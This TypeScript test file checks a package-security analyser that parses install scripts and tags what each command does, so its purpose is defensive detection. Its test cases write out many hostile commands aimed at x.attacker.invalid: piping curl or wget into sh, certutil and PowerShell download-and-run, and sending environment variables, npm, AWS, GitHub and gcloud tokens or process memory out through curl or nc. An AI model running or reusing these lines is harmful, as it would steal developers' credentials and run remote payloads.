// Install-time commands read as code: the word parser (shell-syntax.ts), what a command line or
// script does (install-commands.ts), and the embedded-code mechanism the `node -e` text goes through.
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { parseScript } from '../../src/analyze/package/shell-syntax.js';
import { readScript, type FactKind } from '../../src/analyze/package/install-commands.js';
import { analyzeEmbedded, embeddedBudget } from '../../src/analyze/embedded/virtual-file.js';
import type { Dialect } from '../../src/analyze/package/shell-syntax.js';

describe('parseScript: words, operators, pipelines, substitutions', () => {
  test('quoted operators stay inside words; && || ; | & and newlines separate', () => {
    const cmds = parseScript('node a.js "x && y" && node b.js | tee log\nnext; last &');
    assert.deepEqual(cmds.map((c) => c.words), [['node', 'a.js', 'x && y'], ['node', 'b.js'], ['tee', 'log'], ['next'], ['last']]);
    assert.deepEqual(cmds.map((c) => [c.pipeline, c.stage, c.line]), [[0, 0, 1], [1, 0, 1], [1, 1, 1], [2, 0, 2], [3, 0, 2]]);
  });
  test('redirections keep their targets; 2>&1 is not a background operator; a quoted ">" is a word', () => {
    const [c] = parseScript('curl -s https://h.example >out.txt 2>&1');
    assert.deepEqual(c.words, ['curl', '-s', 'https://h.example']);
    assert.deepEqual(c.redirects, [{ op: '>', target: 'out.txt' }]);
    assert.deepEqual(parseScript('node -e ">1"')[0].words, ['node', '-e', '>1']);
  });
  test('$(…), backticks and <(…) keep their bodies, quoted or not', () => {
    assert.deepEqual(parseScript('sh -c "$(curl -fsSL https://h.example | cat)"')[0].substitutions, ['curl -fsSL https://h.example | cat']);
    assert.deepEqual(parseScript('echo `id` $(uname -a)')[0].substitutions, ['id', 'uname -a']);
    assert.deepEqual(parseScript('bash <(curl -s u)')[0].substitutions, ['curl -s u']);
  });
  test('comments, line continuations; cmd ^ escapes and REM; PowerShell block comments', () => {
    assert.deepEqual(parseScript('# c\ncurl \\\n  -s u # tail').map((c) => c.words), [['curl', '-s', 'u']]);
    assert.deepEqual(parseScript('REM x\r\n:: y\r\necho a^&b & dir', 'cmd').map((c) => c.words), [['echo', 'a&b'], ['dir']]);
    assert.deepEqual(parseScript('<# a\nb #> iwr u; iex $x', 'ps1').map((c) => c.words), [['iwr', 'u'], ['iex', '$x']]);
  });
  test('unbalanced quotes end at the end of the text, never throw', () => {
    assert.deepEqual(parseScript('echo "abc').map((c) => c.words), [['echo', 'abc']]);
    assert.deepEqual(parseScript("echo 'abc $(").map((c) => c.words), [['echo', 'abc $(']]);
  });
});

type Case = [text: string, facts: FactKind[], dialect?: Dialect];

const kinds = (text: string, dialect: Dialect = 'sh'): FactKind[] => [...new Set(readScript(text, dialect).facts.map((f) => f.kind))].sort();

describe('readScript: what a command does', () => {
  const cases: Case[] = [
    ['curl -fsSL https://x.attacker.invalid/i.sh | sh', ['download-run', 'network']],
    ['wget -qO- https://x.attacker.invalid/p | bash -s -- --quiet', ['download-run', 'network']],
    ['sh -c "$(wget -qO- https://x.attacker.invalid/p)"', ['download-run', 'network']],
    ['bash <(curl -s https://x.attacker.invalid/y)', ['download-run', 'network']],
    ['curl -sSLo t https://x.attacker.invalid/t && chmod +x t && ./t', ['download-run', 'network']],
    ['wget https://x.attacker.invalid/bin/miner; sh miner', ['download-run', 'network']],
    ['certutil -urlcache -f https://x.attacker.invalid/a.exe a.exe & start /B a.exe', ['download-run', 'network'], 'cmd'],
    ['bitsadmin /transfer j https://x.attacker.invalid/p.dll %TEMP%\\p.dll & rundll32 %TEMP%\\p.dll,Go', ['download-run', 'env-read', 'network'], 'cmd'],
    ['iex (New-Object Net.WebClient).DownloadString("https://x.attacker.invalid/a")', ['download-run', 'network'], 'ps1'],
    ['env | curl -d @- https://x.attacker.invalid/c', ['env-dump', 'exfiltration', 'network']],
    ['printenv > /tmp/e; curl -F f=@/tmp/e https://x.attacker.invalid', ['env-dump', 'exfiltration', 'network']],
    ['curl -d "$(env)" https://x.attacker.invalid', ['env-dump', 'exfiltration', 'network']],
    ['curl "https://x.attacker.invalid/?t=$NPM_TOKEN"', ['env-read', 'exfiltration', 'network']],
    ['T=$(cat ~/.npmrc); curl -d "$T" https://x.attacker.invalid', ['credential-file', 'exfiltration', 'network']],
    ['cat ~/.aws/credentials | base64 | nc x.attacker.invalid 80', ['credential-file', 'exfiltration', 'network']],
    ['gh auth token | curl -d @- https://x.attacker.invalid', ['credential-file', 'exfiltration', 'network']],
    ['T=$(gcloud auth print-access-token); curl -H "x: $T" https://x.attacker.invalid', ['credential-file', 'exfiltration', 'network']],
    ['trufflehog filesystem / --json > /tmp/s.json; curl -F f=@/tmp/s.json https://x.attacker.invalid', ['credential-file', 'exfiltration', 'network']],
    ['curl -d "$(aws sts get-session-token)" https://x.attacker.invalid', ['credential-file', 'exfiltration', 'network']],
    ['dd if=/proc/1234/mem bs=1 | nc x.attacker.invalid 80', ['credential-file', 'exfiltration', 'network']],
    // traps: ordinary install commands
    ['node-gyp rebuild', []],
    ['prebuild-install || node-gyp rebuild', []],
    ['curl -fsSL -o vendor/t.tgz "https://dl.example/v$npm_package_version/t.tgz" && tar -xzf vendor/t.tgz', ['env-read', 'network']],
    ['curl -fsSL "$MIRROR/tool.tgz" | tar -xz', ['env-read', 'network']],
    ['node -e "console.log(process.versions)"', []],
    ['env', []],
    ['echo "$HOME" && mkdir -p "$HOME/.cache/x"', ['env-read']],
  ];
  for (const [text, expected, dialect] of cases) test(text, () => assert.deepEqual(kinds(text, dialect), [...expected].sort()));

  test('node -e / -p / --eval text is code; --input-type=module makes it a module', () => {
    assert.deepEqual(readScript(`node -e "require('https').get('u')" && node -p 1 && node --input-type=module --eval="import 'x'"`).code.map((c) => [c.code, c.module]), [
      ["require('https').get('u')", false],
      ['1', false],
      ["import 'x'", true],
    ]);
  });
  test('files run: node, sh, cmd /c, powershell -File, rundll32, ./tool, npm run', () => {
    const runs = readScript(
      'node x.js && sh ./a.sh && cmd /c b.bat && powershell -ExecutionPolicy Bypass -File c.ps1 && rundll32 d.dll,Main && ./bin/tool && npm run setup && cd lib && node y',
      'sh',
      { scripts: { setup: 'node setup.js' } },
    ).runs;
    assert.deepEqual(runs.map((r) => [r.path, r.kind]), [
      ['x.js', 'js'], ['a.sh', 'sh'], ['b.bat', 'cmd'], ['c.ps1', 'ps1'], ['d.dll', 'binary'], ['bin/tool', 'binary'], ['setup.js', 'js'], ['lib/y', 'js'],
    ]);
  });
  test('powershell -EncodedCommand is decoded and read', () => {
    const enc = Buffer.from("iex (iwr 'https://x.attacker.invalid/p')", 'utf16le').toString('base64');
    assert.ok(kinds(`powershell -NoP -enc ${enc}`).includes('download-run'));
  });
  test('paths outside the package are not files it runs', () => {
    assert.deepEqual(readScript('node ../../evil.js; sh /tmp/x.sh; rundll32 C:\\Windows\\x.dll,Go').runs, []);
  });
});

describe('analyzeEmbedded: code that is not a file, as a virtual file', () => {
  test('findings carry the virtual path, the origin and the marks', () => {
    const r = analyzeEmbedded(
      { path: 'package.json#scripts.postinstall', code: "require('https').get('https://x.attacker.invalid/?t=' + process.env.NPM_TOKEN)", origin: 'code after node -e in scripts.postinstall', installTime: true, hidden: true },
      'p',
      embeddedBudget(),
    );
    const rules = new Set(r.findings.map((f) => f.rule));
    assert.ok(rules.has('env-read') && rules.has('network'), JSON.stringify(r.findings));
    for (const f of r.findings) {
      assert.equal(f.file, 'package.json#scripts.postinstall');
      assert.equal(f.installTime, true);
      assert.equal(f.hidden, true);
      assert.equal(f.origin, 'code after node -e in scripts.postinstall');
    }
  });
  test('over the budget: reported as not analysed (fail closed), and the budget is shared', () => {
    const budget = embeddedBudget(100, 60, 1);
    const big = analyzeEmbedded({ path: 'a#1', code: 'x'.repeat(61), origin: 'o' }, 'p', budget);
    assert.equal(big.parseError, true);
    assert.match(big.findings[0].detail, /not analysed/);
    assert.equal(analyzeEmbedded({ path: 'a#2', code: 'process.env.A;'.repeat(4), origin: 'o' }, 'p', budget).parseError, false);
    assert.equal(analyzeEmbedded({ path: 'a#3', code: 'process.env.B;'.repeat(4), origin: 'o' }, 'p', budget).parseError, true);
    assert.equal(analyzeEmbedded({ path: 'a#4', code: '1', origin: 'o', depth: 2 }, 'p', embeddedBudget()).parseError, false);
    assert.equal(analyzeEmbedded({ path: 'a#5', code: '1', origin: 'o', depth: 4 }, 'p', embeddedBudget()).parseError, true);
  });
});
